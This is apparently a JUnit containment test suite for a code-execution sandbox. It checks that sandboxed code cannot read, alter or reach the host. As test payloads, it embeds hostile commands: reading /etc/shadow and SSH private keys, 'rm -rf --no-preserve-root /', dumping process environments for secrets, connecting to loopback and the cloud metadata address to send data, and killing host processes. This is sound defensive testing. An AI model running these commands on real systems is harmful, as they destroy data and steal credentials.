package dev.bulwark.attack;

import static dev.bulwark.attack.TestEngine.run;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.bulwark.Execution;
import dev.bulwark.Isolation;
import dev.bulwark.Job;
import dev.bulwark.model.ExecutionResult;
import dev.bulwark.model.Status;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Duration;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * DESIGN.md §4 rows 8-11 and 25-29: what sandboxed code must not reach on the host. Every verdict
 * comes from the host's side: canary hashes, a listener that must receive nothing, a decoy process
 * that must survive, /proc as the host sees it.
 */
class ContainmentTest {
  private static final String SECRET = "canary-" + UUID.randomUUID();
  private static Path canaryDir;
  private static Path canary;
  private static String canaryHash;

  @BeforeAll
  static void plantCanaries() throws Exception {
    canaryDir = Files.createDirectories(Path.of("/root/bulwark-canary-" + UUID.randomUUID()));
    canary = canaryDir.resolve("secret.txt");
    Files.writeString(canary, SECRET);
    canaryHash = sha256(canary);
  }

  @AfterAll
  static void removeCanaries() throws IOException {
    Files.deleteIfExists(canary);
    Files.deleteIfExists(canaryDir);
  }

  @EachTier
  void hostFilesCannotBeReadWrittenOrDeleted(Isolation tier) throws Exception {
    String code =
        """
        import os, shutil, glob
        for path in [%s, "/etc/shadow", "/root/.ssh/id_rsa", "/etc/ssh/ssh_host_rsa_key"]:
            try:
                print("READ", path, open(path).read())
            except Exception as e:
                print("denied", path, type(e).__name__)
        for attempt in [lambda: open(%s, "w").write("pwned"), lambda: os.remove(%s),
                        lambda: shutil.rmtree(%s), lambda: open("/etc/passwd", "a").write("x"),
                        lambda: open("/usr/lib/python3.11/sitecustomize.py", "w").write("x")]:
            try:
                attempt()
                print("WROTE")
            except Exception as e:
                print("denied", type(e).__name__)
        print(glob.glob("/root/*"), glob.glob("/home/*"))
        """
            .formatted(q(canary), q(canary), q(canary), q(canaryDir));
    ExecutionResult r = run(tier, "python", code);

    assertThat(r.status()).isEqualTo(Status.OK);
    assertThat(r.stdout()).doesNotContain(SECRET).doesNotContain("READ").doesNotContain("WROTE");
    assertThat(sha256(canary)).isEqualTo(canaryHash);
    assertThat(Files.readString(Path.of("/etc/passwd"))).doesNotEndWith("x");
  }

  @Test
  void rmRfRootLeavesTheHostIntact() throws Exception {
    // Walking all of /usr charges its inodes and dentries to the run's memory cgroup (300 MB with
    // a cold cache): room enough that reclaim does not slow the walk past the wall clock. With a
    // cold cache on a busy host the walk alone can take 20 s: the clock is not what this tests.
    ExecutionResult r =
        run(
            "bash",
            "rm -rf --no-preserve-root / 2>/dev/null; echo done",
            TestEngine.LIMITS.withMemoryBytes(2L << 30).withWallTimeout(Duration.ofSeconds(90)));
    assertThat(r.stdout()).contains("done");
    assertThat(sha256(canary)).isEqualTo(canaryHash);
    assertThat(Path.of("/usr/bin/python3")).exists();
  }

  @EachTier
  void noHostEnvironmentVariableGetsIn(Isolation tier) {
    String hostSecret = System.getenv("BULWARK_TEST_SECRET");
    assertThat(hostSecret).as("surefire sets BULWARK_TEST_SECRET for this test").isNotBlank();
    // Its own environment, and that of every process it can see (pid 1 is bwrap's init).
    String code =
        """
        import os, glob
        for k, v in os.environ.items(): print(f"{k}={v}")
        for f in glob.glob("/proc/[0-9]*/environ"):
            try: print(open(f).read().replace("\\0", "\\n"))
            except OSError: pass
        """;
    ExecutionResult r = run(tier, "python", code);
    assertThat(r.stdout())
        .doesNotContain(hostSecret)
        .doesNotContain("BULWARK_TEST_SECRET")
        .doesNotContain(System.getProperty("user.dir"));
    for (Map.Entry<String, String> e : System.getenv().entrySet()) {
      if (e.getValue().length() > 8 && !e.getKey().equals("PATH") && !e.getKey().equals("LANG")) {
        assertThat(r.stdout()).as(e.getKey()).doesNotContain(e.getKey() + "=" + e.getValue());
      }
    }
  }

  @EachTier
  void aHostListenerReceivesNothing(Isolation tier) throws Exception {
    try (ServerSocket listener = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
      int port = listener.getLocalPort();
      String code =
          """
          import socket
          for host in ["127.0.0.1", "localhost", "10.0.2.2", "169.254.169.254"]:
              try:
                  socket.create_connection((host, %d), timeout=1).sendall(b"exfiltrated")
                  print("CONNECTED", host)
              except Exception as e:
                  print("blocked", host, type(e).__name__)
          try:
              socket.gethostbyname("example.com")
              print("RESOLVED")
          except Exception as e:
              print("no dns", type(e).__name__)
          """
              .formatted(port);
      ExecutionResult r = run(tier, "python", code);
      assertThat(r.status()).isEqualTo(Status.OK);
      assertThat(r.stdout()).doesNotContain("RESOLVED");
      listener.setSoTimeout(300);
      try (Socket s = listener.accept()) {
        throw new AssertionError(
            "the host listener got a connection from " + s.getRemoteSocketAddress());
      } catch (SocketTimeoutException expected) {
        // nothing arrived
      }
    }
  }

  @EachTier
  void aHostDecoyProcessSurvivesKillAttempts(Isolation tier) throws Exception {
    Process decoy = new ProcessBuilder("sleep", "300").start();
    try {
      String code =
          "kill -9 -1; kill -9 %d; pkill -9 sleep; kill -9 1; echo tried".formatted(decoy.pid());
      ExecutionResult r = run(tier, "bash", code);
      if (tier == Isolation.GVISOR) {
        // The program is pid 1 of gVisor's sandbox, which lets it kill itself: its own end.
        assertThat(r.reason()).isEqualTo("killed by signal SIGKILL");
      } else {
        assertThat(r.stdout()).contains("tried");
      }
      assertThat(decoy.isAlive()).isTrue();
    } finally {
      decoy.destroyForcibly();
    }
  }

  @Test
  void thePayloadNeverRunsAsHostRoot() {
    String marker = "bulwark-uid-probe-" + UUID.randomUUID();
    Execution execution =
        TestEngine.get()
            .submit(new Job("bash", "exec -a " + marker + " sleep 30", TestEngine.LIMITS));
    try {
      await()
          .atMost(Duration.ofSeconds(10))
          .until(() -> !HostProbe.pidsWithCmdline(marker).isEmpty());
      for (long pid : HostProbe.pidsWithCmdline(marker)) {
        long uid = HostProbe.uidOf(pid).orElseThrow();
        assertThat(uid).isNotZero();
        assertThat(uid)
            .isBetween(
                TestEngine.config().sandboxUidBase(),
                TestEngine.config().sandboxUidBase() + TestEngine.config().sandboxUidCount());
      }
    } finally {
      execution.cancel();
    }
    assertThat(execution.result().join().status()).isEqualTo(Status.CANCELLED);
  }

  /**
   * In gVisor the host never sees the program's own processes, only {@code runsc}'s: its sandbox
   * (the Sentry, which runs the program), its gofer and, on the ptrace platform, the stubs. Every
   * one of them runs as the leased sandbox uid.
   */
  @Test
  void gvisorsProcessesNeverRunAsHostRoot() {
    String marker = "bulwark-uid-probe-" + UUID.randomUUID();
    TestEngine.whileGvisorSleeps(
        marker,
        () -> {
          assertThat(HostProbe.pidsWithCmdline(marker))
              .as("the program is inside the Sentry")
              .isEmpty();
          for (long pid : HostProbe.descendantsWithCmdline("runsc")) {
            assertThat(HostProbe.uidOf(pid).orElseThrow())
                .as(HostProbe.describe(pid))
                .isBetween(
                    TestEngine.config().sandboxUidBase(),
                    TestEngine.config().sandboxUidBase() + TestEngine.config().sandboxUidCount());
          }
        });
  }

  @Test
  void twoConcurrentSandboxesRunAsDifferentHostUids() {
    String marker = "bulwark-pair-" + UUID.randomUUID();
    var request = new Job("bash", "exec -a " + marker + " sleep 30", TestEngine.LIMITS);
    Execution a = TestEngine.get().submit(request), b = TestEngine.get().submit(request);
    try {
      await()
          .atMost(Duration.ofSeconds(10))
          .until(() -> HostProbe.pidsWithCmdline(marker).size() == 2);
      List<Long> uids =
          HostProbe.pidsWithCmdline(marker).stream()
              .map(p -> HostProbe.uidOf(p).orElseThrow())
              .toList();
      assertThat(uids).doesNotHaveDuplicates();
    } finally {
      a.cancel();
      b.cancel();
    }
    a.result().join();
    b.result().join();
  }

  @EachTier
  void filesDoNotPersistFromOneRunToTheNext(Isolation tier) {
    String token = UUID.randomUUID().toString();
    ExecutionResult write =
        run(
            tier,
            "bash",
            "for d in /tmp /work /dev/shm; do echo %s > $d/left-behind || exit 1; done; echo ok"
                .formatted(token));
    assertThat(write.stdout()).contains("ok");
    ExecutionResult read =
        run(tier, "bash", "cat /tmp/left-behind /work/left-behind /dev/shm/left-behind 2>&1; true");
    assertThat(read.stdout()).doesNotContain(token).contains("No such file");
  }

  @Test
  void aDetachedDaemonDoesNotOutliveTheRun() {
    String marker = "bulwark-daemon-" + UUID.randomUUID();
    String code =
        """
        import os, subprocess
        subprocess.Popen(["setsid", "bash", "-c", "exec -a %s-a sleep 300"], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp("bash", ["bash", "-c", "exec -a %s-b sleep 300"])
            os._exit(0)
        print("spawned")
        """
            .formatted(marker, marker);
    ExecutionResult r = run("python", code);
    assertThat(r.stdout()).contains("spawned");
    // The result comes as soon as the program ends; the teardown that kills the rest follows.
    Awaitility.await()
        .atMost(Duration.ofSeconds(10))
        .untilAsserted(() -> assertThat(HostProbe.pidsWithCmdline(marker)).isEmpty());
  }

  @EachTier
  void onlyStandardStreamsAreInherited(Isolation tier) {
    ExecutionResult r = run(tier, "bash", "ls /proc/self/fd | sort -n | tr '\\n' ' '");
    // 0-2, plus the descriptor ls opened on the directory it lists.
    assertThat(r.stdout().trim()).isEqualTo("0 1 2 3");
  }

  @EachTier
  void hostFingerprintsAreHidden(Isolation tier) throws IOException {
    ExecutionResult r =
        run(
            tier,
            "bash",
            """
            echo "cmdline=[$(cat /proc/cmdline)] modules=[$(cat /proc/modules)] timers=[$(head -c 1 /proc/timer_list 2>/dev/null)]"
            dmesg >/dev/null 2>&1 && echo DMESG
            head -c 1 /proc/kcore >/dev/null 2>&1 && echo KCORE
            head -c 1 /proc/kmsg >/dev/null 2>&1 && echo KMSG
            grep -v '^0000000000000000' /proc/kallsyms | head -1 | grep -q . && echo KALLSYMS
            hostname; ls /sys 2>&1 | head -1
            """);
    String host = Files.readString(Path.of("/proc/cmdline")).strip();
    assertThat(r.stdout()).contains("sandbox").doesNotContain(host);
    if (tier == Isolation.GVISOR) {
      // gVisor's kernel answers for itself: its own boot line, log and /sys, none of the host's.
      assertThat(r.stdout())
          .contains("cmdline=[BOOT_IMAGE=/vmlinuz-4.4.0-gvisor quiet] modules=[] timers=[]")
          .doesNotContain("KCORE")
          .doesNotContain("KMSG")
          .doesNotContain("KALLSYMS");
      return;
    }
    assertThat(r.stdout()).contains("cmdline=[] modules=[] timers=[]").contains("No such file");
    assertThat(r.stdout())
        .doesNotContain("DMESG")
        .doesNotContain("KCORE")
        .doesNotContain("KMSG")
        .doesNotContain("KALLSYMS");
  }

  @EachTier
  void setuidBinariesGiveNoPrivileges(Isolation tier) throws Exception {
    ExecutionResult r =
        run(
            tier,
            "bash",
            "grep NoNewPrivs /proc/self/status; su -c 'cat "
                + canary
                + "' root </dev/null 2>&1; id -u; echo end");
    if (tier == Isolation.BUBBLEWRAP) {
      // gVisor's /proc/self/status has no such line; its OCI specification sets the flag.
      assertThat(r.stdout()).contains("NoNewPrivs:\t1");
    }
    assertThat(r.stdout()).doesNotContain(SECRET).contains("1000").contains("end");
    assertThat(sha256(canary)).isEqualTo(canaryHash);
  }

  private static String q(Path p) {
    return "\"" + p + "\"";
  }

  private static String sha256(Path file) throws Exception {
    return HexFormat.of()
        .formatHex(MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(file)));
  }
}
